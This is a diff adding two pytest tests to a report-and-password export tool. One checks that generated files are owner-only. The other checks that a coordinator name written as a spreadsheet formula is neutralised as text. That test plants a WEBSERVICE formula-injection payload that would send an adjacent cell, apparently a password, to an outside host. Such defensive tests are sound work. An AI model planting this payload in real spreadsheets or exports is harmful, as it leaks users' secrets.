@@ -4,8 +4,10 @@ from __future__ import annotations
 
 import csv
 import json
+import os
 import re
 import shutil
+import tempfile
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -304,3 +306,47 @@ def test_what_cannot_be_done_is_said_before_anything_happens(
     before = sorted(folder.rglob("*"))
     assert words in run(*arguments, status=2).output
     assert [p for p in sorted(folder.rglob("*")) if "mail" not in p.parts] == before
+
+
+@pytest.mark.skipif(os.name == "nt", reason="Windows has other rights")
+def test_nobody_else_of_the_computer_reads_what_is_made(
+    folder: Path, run: Run, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """From the first report to the list of passwords, all that is written and all that others could read
+    before is the owner's alone, even where the user lets everybody read and write new files.
+    """
+    places = (folder / "out" / "tiny-2018", folder / "temporary")
+    places[1].mkdir()
+    monkeypatch.setattr(tempfile, "tempdir", str(places[1]))
+    monkeypatch.setenv("CLUSTER_REPORTS_PASSWORD_SECRET", "a secret of more than twenty signs")
+    for path in (places[0], *(path for path in places[0].rglob("*") if path.is_dir())):
+        path.chmod(0o755)
+    before = os.umask(0)
+    try:
+        run("build", "edition", "K01", "K03", "--force", "-j", "1")
+        run("cards", "edition", "K01", "-j", "1")
+        run("summary", "edition")
+        run("approve", "edition", "K01", "--by", "Anna Nowak")
+        run("send", "edition", "K01")
+        run("export", "edition")
+        run("passwords", "edition", "passwords.csv")
+        run("scores", "edition", "-o", "scores.xlsx")
+    finally:
+        os.umask(before)
+    made = [*places[0].rglob("*"), *places[1].rglob("*"), folder / "passwords.csv", folder / "scores.xlsx"]
+    names = {path.name for path in made}
+    assert {"K01.pdf", "K03.html", "scores.csv", "manifest.json", "K01.eml", "evidence.csv", ".lock"} <= names
+    for path in (places[0], *made):
+        assert path.stat().st_mode & 0o077 == 0, path
+
+
+def test_no_list_runs_what_stands_in_it(folder: Path, run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A coordinator called like a formula stands beside the passwords, and is a text there."""
+    name = '=WEBSERVICE("http://example.org/"&D2)'
+    clusters = folder / "edition" / "clusters.csv"
+    quoted = '"' + name.replace('"', '""') + '"'
+    clusters.write_text(clusters.read_text("utf-8").replace("Anna Nowak", quoted), "utf-8")
+    monkeypatch.setenv("CLUSTER_REPORTS_PASSWORD_SECRET", "a secret of more than twenty signs")
+    run("passwords", "edition", "passwords.csv")
+    lines = (folder / "passwords.csv").read_text("utf-8-sig").splitlines()
+    assert next(csv.DictReader(lines))["coordinator"] == f"'{name}"
